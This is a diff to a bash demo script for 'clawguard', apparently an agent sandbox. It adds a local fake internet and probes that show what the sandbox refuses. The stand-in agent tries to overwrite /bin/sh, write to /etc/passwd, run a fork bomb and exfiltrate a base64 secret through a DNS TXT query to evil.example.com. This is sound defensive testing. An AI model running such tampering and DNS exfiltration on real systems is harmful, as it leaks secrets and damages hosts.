@@ -1,8 +1,10 @@
 #!/usr/bin/env bash
 # `sudo make demo`: run a stand-in agent in a clawguard sandbox on the built-in
 # openclaw profile and show what the sandbox allows and refuses. Everything
-# stays on this machine: the image is built locally and the sandbox has no
-# route out.
+# stays on this machine: the image is built locally, and the "internet" the
+# agent sees (api.anthropic.com, api.openai.com, evil.example.com and a DNS
+# server) is a network namespace on 198.18.100.0/24 that this script creates
+# and removes; clawguard's DNS gate is pointed at it with --dns-upstream.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 ROOT=$PWD
@@ -11,6 +13,9 @@ SOCK=/run/containerd/containerd.sock
 DEMO=${DEMO_DIR:-/tmp/clawguard-demo}
 IMAGE=docker.io/clawguard/demo-agent:latest
 NAME=openclaw
+INET=cgdemo-inet
+DNS=198.18.100.53
+CG="$CG --dns-upstream $DNS"
 
 say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
 
@@ -40,6 +45,9 @@ cat >"$DEMO/agent.sh" <<'AGENT'
 say() { echo "[agent] $*"; }
 # try WHAT CMD...: run CMD and report whether the sandbox allowed it.
 try() { what=$1; shift; if out=$("$@" 2>&1); then say "$what: ALLOWED"; else say "$what: refused (${out##*: })"; fi; }
+# reach WHAT HOST:PORT: a TCP connection through the sandbox's egress rules.
+reach() { if cgprobe connect "$2" 2s | grep -q '"OK": true'; then say "$1: ALLOWED"; else say "$1: refused"; fi; }
+gw=$(awk '/^nameserver/ {print $2}' /etc/resolv.conf)
 say "I am $(id)"
 echo "notes from the agent" > /workspace/hello.txt && say "write /workspace/hello.txt: ok"
 say "read /run/secrets/anthropic_api_key: $(wc -c < /run/secrets/anthropic_api_key) bytes (value not shown)"
@@ -47,9 +55,14 @@ try "overwrite /bin/sh" sh -c 'echo x > /bin/sh'
 try "write /etc/passwd" sh -c 'echo x >> /etc/passwd'
 cp /bin/busybox /tmp/bb
 try "run a binary copied to /tmp" /tmp/bb true
-try "connect to 198.51.100.1:80" nc -w 2 198.51.100.1 80
 say "fork bomb: $(cgprobe forkbomb | tr -d '\n ')"
 say "syscalls refused with EPERM (ptrace, mount, unshare, bpf, keyctl, io_uring, ...): $(cgprobe syscalls | grep -c '"EPERM"')"
+reach "HTTPS to api.anthropic.com (allowlisted)" api.anthropic.com:443
+reach "HTTP to api.anthropic.com (port not allowlisted)" api.anthropic.com:80
+say "look up evil.example.com (not allowlisted): $(cgprobe resolve evil.example.com | tr -d '\n ')"
+reach "HTTPS to 198.18.100.66 by address (not allowlisted)" 198.18.100.66:443
+say "exfiltrate through DNS (TXT c2VjcmV0.evil.example.com): $(cgprobe dns "$gw:53" c2VjcmV0.evil.example.com TXT | tr -d '\n ')"
+say "ask a DNS server of my own choosing: $(cgprobe dns 198.18.100.53:53 api.anthropic.com A | tr -d '\n ')"
 say "idle now; clawguard stop sends SIGTERM"
 trap 'say "SIGTERM received, exiting"; exit 0' TERM
 while :; do sleep 1 & wait $!; done
@@ -66,17 +79,52 @@ printf 'sk-ant-demo-not-a-real-key' >"$DEMO/secrets/anthropic_api_key"
 chmod 600 "$DEMO/secrets/anthropic_api_key"
 echo '{}' >"$DEMO/config/openclaw.json"
 
+# 4. The fake internet: a namespace joined to the host by a veth pair, with a
+#    DNS server and web servers; only its own ranges are routed to it.
+say "starting a fake internet in network namespace $INET (198.18.100.0/24)"
+PIDS=()
+cleanup_inet() {
+	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
+	ip netns del "$INET" 2>/dev/null || true
+}
+ip netns del "$INET" 2>/dev/null || true
+if ip route show | grep -qE '^198\.18\.(1\.0/30|100\.0/24)'; then
+	echo "demo: 198.18.1.0/30 or 198.18.100.0/24 is already routed on this host; not touching it" >&2
+	exit 1
+fi
+ip netns add "$INET"
+ip link add cgdemo0 type veth peer name cgdemo1
+ip link set cgdemo1 netns "$INET"
+ip addr add 198.18.1.1/30 dev cgdemo0
+ip link set cgdemo0 up
+ip route add 198.18.100.0/24 via 198.18.1.2
+ip netns exec "$INET" sh -c 'ip link set lo up; ip addr add 198.18.1.2/30 dev cgdemo1; ip link set cgdemo1 up;
+	ip route add default via 198.18.1.1; ip addr add 198.18.100.0/24 dev lo'
+ip netns exec "$INET" "$ROOT/bin/cgprobe" serve-dns "$DNS:53" \
+	api.anthropic.com=198.18.100.10 api.openai.com=198.18.100.11 evil.example.com=198.18.100.66 >/dev/null 2>&1 &
+PIDS+=($!)
+for port in 80 443; do
+	ip netns exec "$INET" "$ROOT/bin/cgprobe" listen "$port" >/dev/null 2>&1 &
+	PIDS+=($!)
+done
+trap cleanup_inet EXIT
+sleep 0.3
+echo "from the host (no clawguard rule in the way): $(ip netns exec "$INET" true && "$ROOT/bin/cgprobe" connect 198.18.100.66:443 | tr -d '\n ')"
+
 say "clawguard run --image $IMAGE   (built-in openclaw profile, from $DEMO)"
 cd "$DEMO"
 "$CG" run --image "$IMAGE" >"$DEMO/run.log" 2>&1 &
 RUN_PID=$!
-trap 'kill -INT $RUN_PID 2>/dev/null || true' EXIT
+trap 'kill -INT $RUN_PID 2>/dev/null || true; wait $RUN_PID 2>/dev/null; cleanup_inet' EXIT
 for _ in $(seq 100); do grep -q "running (pid" "$DEMO/run.log" && break; sleep 0.1; done
-sleep 3 # let the agent go through its attempts
+sleep 8 # let the agent go through its attempts
 cat "$DEMO/run.log"
 
 say "clawguard status"
 "$CG" status
+
+say "clawguard status --rules $NAME"
+"$CG" status --rules "$NAME"
 
 say "checks from outside"
 echo "workspace on the host:   $(cat "$DEMO/workspace/hello.txt")"
@@ -86,6 +134,6 @@ echo "limits inside:           $("$CG" exec "$NAME" -- cgprobe limits | tr -d '\
 say "clawguard stop $NAME"
 "$CG" stop "$NAME"
 wait $RUN_PID || true
-trap - EXIT
+trap cleanup_inet EXIT
 tail -2 "$DEMO/run.log"
 say "demo done: the sandbox and everything it created are gone ($("$CG" status | head -1))"
